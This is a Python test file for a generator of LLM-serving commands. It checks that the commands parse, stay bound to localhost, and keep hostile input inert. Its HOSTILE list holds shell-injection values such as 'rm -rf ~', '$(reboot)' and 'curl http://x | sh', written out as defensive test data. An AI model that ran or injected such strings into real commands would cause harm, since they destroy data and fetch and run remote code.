"""Every command that is written parses against its runtime's own options, whatever is asked."""

import shlex
from itertools import product

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decisions.fit.commands import Asked, Step, commands_for
from decisions.fit.commands.asked import PORTS
from decisions.knowledge import options
from tests.fit.commands.parse import faults
from tests.fit.samples import COMMIT

RUNTIMES = sorted(PORTS)
MODELS = [("Qwen/Qwen2.5-7B-Instruct", ""), ("org/Model-GGUF", "model-Q4_K_M.gguf"), ("llama3.1:8b", "")]
QUANTIZATIONS = ["", "BF16", "FP8", "Q4_K_M", "UD-Q4_K_XL", "NF4", "AWQ", "INT8", "MXFP4", "exl2 4.0bpw"]
KV = ["", "f16", "bf16", "fp8", "fp8_e5m2", "q8_0", "q4_0", "int3"]
LOADS = [(None, None, None), (8192, 1, 0), (131072, 16, 1), (4096, 4, 8)]
HOSTILE = [
    "a/b; rm -rf ~",
    "a/$(reboot)",
    "a/`id`",
    "a/b' || 'x",
    'a/"quoted" name',
    "a/b\nreboot",
    "a/b && curl http://x | sh",
    "a/*?[x]{1,2}",
    "a/모델 名前",
    "a/\\",
    "~/x",
    "a/b --trust-remote-code",
    "a/b#c",
    "a/@main:x.gguf",
]


def steps(commands) -> list[Step]:
    tunnel = [commands.tunnel_step] if commands.tunnel_step else []
    return [*commands.first_steps, *commands.stop_steps, *tunnel]


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("model", MODELS, ids=lambda model: model[0])
def test_whatever_is_asked_the_parser_takes_it(runtime, model):
    table, count = options.shipped()[runtime], 0
    for quantization, kv, load, extra in product(QUANTIZATIONS, KV, LOADS, (False, True)):
        context, parallel, devices = load
        asked = Asked(
            runtime=runtime,
            model_id=model[0],
            file=model[1],
            revision=COMMIT if extra else "main",
            quantization=quantization,
            context_tokens=context,
            parallel=parallel,
            kv_dtype=kv,
            devices=devices,
            gpu_layers=12 if extra else None,
            structured_output=extra,
            tool_calling=extra,
            adapter="org/adapter" if extra else "",
            lora=not extra,
            lora_rank=24 if parallel else None,
            loras=parallel,
            draft="org/small" if extra else "",
            draft_quantization=quantization,
            vision=None if devices is None else extra,
            rented=extra,
            ssh_target="root@203.0.113.7:22022" if extra else "",
        )
        made = commands_for(asked)
        found = [fault for step in (*made.first_steps, *made.stop_steps) for fault in faults(step, table)]
        assert found == [], (asked, made.first_run)
        count += 1
    assert count == 640


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_stays_one_word(runtime, text):
    made = commands_for(
        Asked(
            runtime,
            text,
            **dict.fromkeys(("revision", "file", "adapter", "draft", "draft_quantization"), text),
            served_name=text,
            quantization=text,
        )
    )
    for step in steps(made):
        line = step.line.removesuffix(step.ending)
        assignments = [f"{name}={value}" for name, value in step.environment]
        assert shlex.split(line) == [*assignments, *step.words]
    assert faults(made.first_steps[0], options.shipped()[runtime]) == []


@given(st.sampled_from(RUNTIMES), st.text(min_size=1), st.text(), st.text())
def test_any_text_stays_one_word(runtime, model, file, quantization):
    if model.startswith("-") or file.startswith("-"):
        return
    for step in steps(commands_for(Asked(runtime, model, file=file, quantization=quantization))):
        assert shlex.split(step.line.removesuffix(step.ending))[len(step.environment) :] == list(step.words)


@pytest.mark.parametrize("runtime", RUNTIMES)
@pytest.mark.parametrize("field", ["model_id", "file", "adapter", "draft"])
def test_a_name_that_would_be_an_option_is_refused(runtime, field):
    with pytest.raises(ValueError, match="--config"):
        commands_for(Asked(**{"runtime": runtime, "model_id": "a/b", field: "--config=/tmp/x"}))


def test_a_revision_that_is_no_revision_is_left_out():
    made = commands_for(Asked("vllm", "a/b", revision="--trust-remote-code"))
    assert "trust" not in made.first_run
    assert "command.not_pinned" in [note.code for note in made.notes]


@pytest.mark.parametrize("runtime", RUNTIMES)
def test_every_endpoint_listens_on_this_machine_alone(runtime):
    text = commands_for(Asked(runtime, "a/b")).first_run
    assert "127.0.0.1" in text
    assert "0.0.0.0" not in text  # noqa: S104


def test_the_check_finds_what_is_wrong():
    table = options.shipped()["vllm"]
    assert faults(Step(("vllm", "serve", "m", "--no-such-flag")), table) == ["no option --no-such-flag"]
    assert faults(Step(("vllm", "serve", "m", "--quantization", "gguf")), table) == ["--quantization gguf"]
    assert faults(Step(("vllm", "serve", "m", "--port", "high")), table) == ["--port high"]
    assert faults(Step(("vllm", "serve", "m", "n")), table) == ["no option n"]
